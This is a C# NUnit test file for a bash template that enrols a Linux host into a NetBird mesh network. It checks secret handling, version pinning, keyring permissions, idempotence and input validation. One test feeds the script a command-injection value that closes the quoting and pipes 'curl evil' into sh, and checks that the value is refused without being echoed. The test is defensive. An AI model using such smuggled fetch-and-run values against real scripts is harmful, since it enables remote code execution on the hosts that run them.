using System.Runtime.Versioning;
using Boma.Infra.Components;
using Boma.Infra.Hosts;
using Boma.Infra.Tests.HostFiles;
using NUnit.Framework;
using Boma.Infra.Tests.Cli;
using Boma.Infra.Tests.Components;
using Boma.Infra.Tests.Config;
using Boma.Infra.Tests.Stacks;

namespace Boma.Infra.Tests.Hosts;

[TestFixture]
[SupportedOSPlatform("linux")] // Host scripts and their tools only exist on Linux.
public sealed class NetbirdEnrolScriptTests
{
    private const string Template = "cluster/netbird-enrol.sh.tmpl";

    // Shaped like a NetBird setup key; not a real one.
    private const string SetupKey = "A1B2C3D4-E5F6-4711-8899-AABBCCDDEEFF";

    private static readonly Dictionary<string, string> Values = new()
    {
        ["management_url"] = "https://netbird.askari.example.net",
        ["peer_name"] = "mlinzi1",
        ["netbird_version"] = "0.72.4",
    };

    // How the key reaches the script in production: an export line ahead of it on stdin (ClusterMeshEnrolment).
    private static readonly Dictionary<string, string> KeyEnvironment = new() { [ClusterMeshEnrolment.SetupKeyVariable] = SetupKey };

    private ScriptSandbox _sandbox = null!;

    [SetUp]
    public void CreateSandbox()
    {
        _sandbox = new ScriptSandbox();
        foreach (var tool in new[] { "netbird", "gpg", "curl" })
        {
            var stub = Path.Combine(AppContext.BaseDirectory, "Hosts", "stubs", tool);
            File.SetUnixFileMode(stub, File.GetUnixFileMode(stub) | UnixFileMode.UserExecute);
            File.CreateSymbolicLink(Path.Combine(_sandbox.StubBin, tool), stub);
        }
    }

    [TearDown]
    public void RemoveSandbox() => _sandbox.Dispose();

    [Test]
    // Severity warning and up: the library's literal dpkg-query format string is an info-level false positive (SC2016).
    public void ShellcheckAcceptsTheRenderedScript()
    {
        var file = Path.Combine(_sandbox.Dir, "netbird-enrol.sh");
        File.WriteAllText(file, HostTemplates.Render(Template, Values));

        var result = HostTool.Run(HostTool.Require("shellcheck", "shellcheck"), ["-s", "bash", "-S", "warning", file]);

        Assert.That(result.ExitCode, Is.Zero, result.ToString());
    }

    /// <summary>Runs the script as the Command does: <c>bash -s</c> with the export preamble and the script on stdin.</summary>
    private ScriptRun Run(IReadOnlyDictionary<string, string> secrets, string? umask = null)
    {
        var callsBefore = File.Exists(_sandbox.CallsLog) ? File.ReadAllLines(_sandbox.CallsLog).Length : 0;
        var env = new Dictionary<string, string>
        {
            ["BOMA_ROOT"] = _sandbox.Root,
            ["BOMA_STUB_BIN"] = _sandbox.StubBin,
            ["BOMA_STUB_STATE"] = _sandbox.State,
        };
        var stdin = HostTemplates.ExportPreamble(secrets) + HostTemplates.Render(Template, Values);
        string[] args = umask is null ? ["-s"] : ["-c", $"umask {umask} && exec bash -s"];
        var result = HostTool.Run(HostTool.Require("bash", "bash"), args, env, stdin);
        var calls = File.Exists(_sandbox.CallsLog) ? File.ReadAllLines(_sandbox.CallsLog).Skip(callsBefore).ToList() : [];
        return new ScriptRun(result, calls);
    }

    [Test]
    public void TheTemplateTakesNoSecret()
    {
        Assert.That(HostTemplates.ParameterNames(Template), Is.EqualTo(Values.Keys.Order(StringComparer.Ordinal)));
        Assert.That(HostTemplates.Render(Template, Values), Does.Not.Contain("{{"));
    }

    [Test]
    public void AFreshVmIsEnrolledWithTheKeyInAPrivateFileNeverInArgv()
    {
        var run = Run(KeyEnvironment);

        Assert.That(run.Result.ExitCode, Is.Zero, run.ToString());
        var up = run.Calls.Single(c => c.StartsWith("netbird up ", StringComparison.Ordinal));
        Assert.That(up, Does.StartWith("netbird up --management-url https://netbird.askari.example.net --setup-key-file "));
        Assert.That(up, Does.EndWith(" --hostname mlinzi1"));
        Assert.That(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-key")), Is.EqualTo(SetupKey + "\n"));
        Assert.That(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-key-mode")).Trim(), Is.EqualTo("600"));
        Assert.That(File.Exists(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-key-path")).Trim()), Is.False,
            "the key file is removed when the script ends");
        Assert.That(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-env")).Trim(), Is.Empty, "tools do not inherit NB_SETUP_KEY");
        Assert.That(run.Calls, Has.None.Contains(SetupKey));
        Assert.That(run.Result.Stdout + run.Result.Stderr, Does.Not.Contain(SetupKey));
        Assert.That(_sandbox.ReadFile("/etc/apt/sources.list.d/netbird.list"),
            Is.EqualTo("deb [signed-by=/usr/share/keyrings/netbird-archive-keyring.gpg] https://pkgs.netbird.io/debian stable main\n"));
        // Pinned to the coordinator's version and held, not "latest".
        Assert.That(run.Calls, Has.Some.EqualTo("apt-get install -y -qq --allow-downgrades netbird=0.72.4"));
        Assert.That(run.Calls, Has.Some.EqualTo("apt-mark hold netbird"));
        Assert.That(run.Calls.Where(c => c.StartsWith("apt-get install", StringComparison.Ordinal)), Has.None.EndsWith(" netbird"));
        Assert.That(run.Lines[^1], Does.StartWith("summary: ").And.Not.EqualTo("summary: 0 changed"));
        Assert.That(_sandbox.ReadFile("/usr/share/keyrings/netbird-archive-keyring.gpg"), Does.Contain("PGP PUBLIC KEY"));
    }

    [Test]
    public void TheKeyringIsReadableByAptUnderTheHardenedUmask()
    {
        // apt verifies as _apt: a 0640 keyring (umask 027 over SSH on a hardened VM) reads as "repository not signed".
        var run = Run(KeyEnvironment, umask: "027");
        Assert.That(run.Result.ExitCode, Is.Zero, run.ToString());
        var keyring = Path.Combine(_sandbox.Root, "usr/share/keyrings/netbird-archive-keyring.gpg");
        Assert.That(File.GetUnixFileMode(keyring), Is.EqualTo(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.GroupRead | UnixFileMode.OtherRead));

        // A keyring an earlier run left root-only is repaired, and apt reads the repository again.
        File.SetUnixFileMode(keyring, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.GroupRead);
        var again = Run(KeyEnvironment, umask: "027");
        Assert.That(again.Result.ExitCode, Is.Zero, again.ToString());
        Assert.That(again.Changed, Has.Some.EqualTo("changed: /usr/share/keyrings/netbird-archive-keyring.gpg (mode 0644)"));
        Assert.That(again.Calls, Has.Some.EqualTo("apt-get update -qq"));
        Assert.That(File.GetUnixFileMode(keyring) & UnixFileMode.OtherRead, Is.EqualTo(UnixFileMode.OtherRead));
    }

    [Test]
    public void ASecondRunChangesNothingAndDoesNotEnrolAgain()
    {
        // The message carries the first run's output and tool calls, so a failure here explains itself.
        var first = Run(KeyEnvironment);
        Assert.That(first.Result.ExitCode, Is.Zero, first.ToString());
        var before = _sandbox.Snapshot();

        var second = Run(KeyEnvironment);

        Assert.That(second.Result.ExitCode, Is.Zero, second.ToString());
        Assert.That(second.Calls, Has.None.StartsWith("netbird up"));
        Assert.That(second.Changed, Is.Empty, second.ToString());
        Assert.That(second.Lines[^1], Is.EqualTo("summary: 0 changed"));
        Assert.That(_sandbox.Snapshot(), Is.EqualTo(before));
    }

    [Test]
    public void AMissingKeyFailsClearlyBeforeAnythingChanges()
    {
        var before = _sandbox.Snapshot();

        var run = Run(new Dictionary<string, string>());

        Assert.That(run.Result.ExitCode, Is.Not.Zero);
        Assert.That(run.Result.Stderr, Does.Contain("NB_SETUP_KEY is not set"));
        Assert.That(run.Calls, Is.Empty);
        Assert.That(_sandbox.Snapshot(), Is.EqualTo(before));
    }

    [Test]
    public void AKeyThatIsNotASetupKeyIsRefusedWithoutPrintingIt()
    {
        const string bad = "abcdefgh'; curl evil | sh; '";
        var before = _sandbox.Snapshot();

        var run = Run(new Dictionary<string, string> { [ClusterMeshEnrolment.SetupKeyVariable] = bad });

        Assert.That(run.Result.ExitCode, Is.Not.Zero);
        Assert.That(run.Result.Stderr, Does.Contain("NB_SETUP_KEY does not look like a NetBird setup key"));
        Assert.That(run.Result.Stdout + run.Result.Stderr, Does.Not.Contain("curl evil"));
        Assert.That(run.Calls, Is.Empty);
        Assert.That(_sandbox.Snapshot(), Is.EqualTo(before));
    }
}
